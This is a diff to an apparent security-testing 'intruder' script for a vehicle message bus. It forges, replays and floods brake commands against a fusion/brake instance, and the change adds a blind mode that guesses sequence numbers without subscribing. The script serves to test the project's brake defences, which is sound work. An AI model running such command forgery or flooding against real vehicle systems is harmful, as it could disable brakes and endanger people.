@@ -17,8 +17,12 @@ Attacks, in this order (each is counted in what it prints as one JSON line at th
   them) for `--flood-s`. An unbounded flood is a denial of service that no check in the
   brake can stop on the default profile (docs/security.md).
 
-Exit code 0 once every attack was published; 1 when the bus cannot be opened or no
-command of the real fusion was seen to record (the replay needs one).
+`--blind`: for an intruder that may not subscribe to the brake's key (the secure
+profile's access control): no recording, no replay; the sequence numbers ahead are
+guessed (from 1,000,000).
+
+Exit code 0 once every attack was published; 1 when the bus cannot be opened or (not
+blind) no command of the real fusion was seen in 30 s.
 """
 
 import argparse
@@ -78,17 +82,21 @@ class Recorder:
 
 
 def run(bus: Bus, instance: str, attacks: tuple[str, ...], record_s: float,
-        replay_delay_s: float, flood_s: float, flood_hz: float = 1000.0,
+        replay_delay_s: float, flood_s: float, flood_hz: float = 1000.0, blind: bool = False,
         progress: Callable[[str], None] = lambda s: None) -> dict[str, int]:
-    """Publish the attacks; returns how many commands each one published."""
+    """Publish the attacks; returns how many commands each one published. Raises
+    TimeoutError when (not `blind`) no command of the instance is seen in 30 s."""
     pub = bus.publisher(FUSION_BRAKE_CMD, instance=instance)
     rec = Recorder()
-    sub = bus.subscribe_raw(FUSION_BRAKE_CMD, rec, instance=instance)
+    sub = None if blind else bus.subscribe_raw(FUSION_BRAKE_CMD, rec, instance=instance)
     sent: dict[str, int] = {a: 0 for a in attacks}
     try:
-        if not rec.seen.wait(30.0):
+        if blind:
+            rec.last_seq = 1_000_000
+        elif not rec.seen.wait(30.0):
             raise TimeoutError(f"no command of fusion/{instance} seen in 30 s")
-        time.sleep(record_s)            # the recording's length (what the replay repeats)
+        else:
+            time.sleep(record_s)        # the recording's length (what the replay repeats)
         rec.recording = False
         guessed = CommandSigner(CommandKey(rec.key_id or f"{instance}-guess", instance,
                                            secrets.token_bytes(32)))
@@ -127,7 +135,8 @@ def run(bus: Bus, instance: str, attacks: tuple[str, ...], record_s: float,
                 seq = rec.last_seq + 1 + sent["flood"] % 50
                 put(forged_command(seq, instance), "flood", sent["flood"] % 2 == 1)
     finally:
-        sub.undeclare()
+        if sub is not None:
+            sub.undeclare()
         pub.undeclare()
     return sent
 
@@ -144,6 +153,8 @@ def main(argv: list[str] | None = None) -> int:
     parser.add_argument("--replay-delay-s", type=float, default=0.5)
     parser.add_argument("--flood-s", type=float, default=1.0)
     parser.add_argument("--flood-hz", type=float, default=1000.0, help="0: unbounded")
+    parser.add_argument("--blind", action="store_true",
+                        help="do not subscribe (no replay, guessed sequence numbers)")
     args = parser.parse_args(argv)
     attacks = tuple(a for a in args.attacks.split(",") if a)
     unknown = set(attacks) - set(ATTACKS)
@@ -156,7 +167,7 @@ def main(argv: list[str] | None = None) -> int:
     try:
         with Bus.open(settings, args.vehicle, "intruder") as bus:
             sent = run(bus, args.instance, attacks, args.record_s, args.replay_delay_s,
-                       args.flood_s, args.flood_hz,
+                       args.flood_s, args.flood_hz, args.blind,
                        lambda s: print(f"intruder: {s}", flush=True))
     except (BusError, TimeoutError) as exc:
         print(f"error: {exc}", file=sys.stderr)
